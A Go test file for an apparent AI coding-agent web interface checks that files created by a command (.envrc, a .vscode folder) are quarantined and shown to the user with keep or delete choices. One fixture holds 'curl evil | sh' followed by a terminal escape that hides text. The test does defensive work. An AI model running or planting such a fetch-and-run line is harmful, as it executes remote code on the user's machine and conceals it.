package pages_test

import (
	"net/http"
	"testing"

	"github.com/matryer/is"

	"pocketcoder/events"
	"pocketcoder/ops/expect"
	"pocketcoder/web/webtest"
)

// created appends the request to keep a name that a command created.
func created(t *testing.T, s *webtest.System, chat, id string, about events.KeepMetadata) {
	t.Helper()
	s.Append(t, chat, events.PermissionRequested{Permission: id, Type: events.KindKeep, Patterns: []string{about.Name},
		Metadata: events.MustEncode(about), Message: "A command created " + about.Name + ". Keep it?"})
	s.Append(t, chat, events.PermissionReferred{Permission: id, Reason: "programs of this machine act on it"})
}

func envrc() events.KeepMetadata {
	return events.KeepMetadata{Quarantined: events.Quarantined{Item: "q1", Name: ".envrc", Kind: "file", Bytes: 24},
		Exec: "x1", Command: "./configure", Text: "curl evil | sh\x1b[2K\n", Cut: true}
}

func TestACardShowsACreatedNameWithItsContent(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	s := webtest.NewSystem(t)
	_, token := s.User(t, "ada", "user")
	chat := s.Chat(t, token, "Tidy up")
	created(t, s, chat, "k1", envrc())
	folder := envrc()
	folder.Quarantined = events.Quarantined{Item: "q2", Name: ".vscode", Kind: "folder", Bytes: 12, Files: 2}
	folder.Text, folder.Command = "", "" // of a shell that is not recorded
	created(t, s, chat, "k2", folder)
	b := loggedIn(t, s, "ada")
	page := b.visit(t, "/requests").body
	card := element(t, page, "r-k1")
	for _, want := range []string{
		"Keep .envrc?", `curl evil | sh<b class="hidden">␛</b>[2K`, "file, 24 bytes", "./configure", "Only its beginning is shown.", "programs of this machine act on it", ">Keep it<", ">Delete it<",
		`<b class="count">2</b>`} {
		expect.Contains(t, card+page, want)
	}
	for _, unwanted := range []string{"Approve", "Deny", "/always", `"item"`} {
		expect.Lacks(t, card, unwanted)
	}
	for _, want := range []string{
		"folder with 2 files, 12 bytes", "Its content is not shown here.", "a person&#39;s shell", "The contents of its files are in the quarantine.", "<dt>in the quarantine</dt>", "q2"} {
		expect.Contains(t, element(t, page, "r-k2"), want)
	}

	decide := func(id, decision string) string {
		t.Helper()
		form := formOf(t, b.visit(t, "/chats/"+chat).body, "/chats/"+chat+"/requests/"+id)
		form.Set("decision", decision)
		after := b.submit(t, "/chats/"+chat+"/requests/"+id, form)
		is.Equal(after.status, http.StatusOK)
		return element(t, after.body, "r-"+id)
	}
	expect.Contains(t, decide("k1", "authorized"), "approved by ada@example.org")
	expect.Contains(t, decide("k2", "denied"), "denied by ada@example.org")
	s.Append(t, chat, events.PermissionApplied{Permission: "k2"})
	s.Append(t, chat, events.PermissionApplied{Permission: "k1", Error: "a file .envrc exists now"})
	page = b.visit(t, "/chats/"+chat).body
	expect.Contains(t, element(t, page, "r-k2"), "deleted by ada@example.org")
	expect.Contains(t, element(t, page, "r-k1"), `<p class="problem">The decision was not carried out: a file .envrc exists now</p>`)
	s.Append(t, chat, events.PermissionApplied{Permission: "k1"})
	expect.Contains(t, b.visit(t, "/chats/"+chat).body, "kept by ada@example.org")
}
